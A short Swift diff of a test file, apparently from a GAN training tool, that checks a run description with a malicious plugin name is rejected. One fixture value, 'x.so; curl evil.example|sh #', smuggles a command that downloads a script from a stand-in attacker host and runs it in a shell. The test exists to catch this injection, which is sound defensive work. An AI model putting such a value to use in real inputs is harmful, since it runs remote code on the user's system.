@@ -1,3 +1,4 @@
+import GANRun
 import Foundation
 import GANCore
 import GANMetrics
@@ -96,7 +97,7 @@ import Testing
         let plugins = ["x.so; curl evil.example|sh #"] + (0..<20).map { "\($0).so" }
         let json = try JSONEncoder().encode(Description(data: DatasetInfoFile(facts), plugins: plugins))
         try place.write("run.json", String(decoding: json, as: UTF8.self))
-        let error = #expect(throws: CommandFailure.self) { _ = try RunFile(place.folder.path).recipe() }
+        let error = #expect(throws: RunError.self) { _ = try RunNetworks(place.folder.path).recipe() }
         let hint = try #require(error?.description.split(separator: "\n").last)
         #expect(
             hint.hasPrefix(
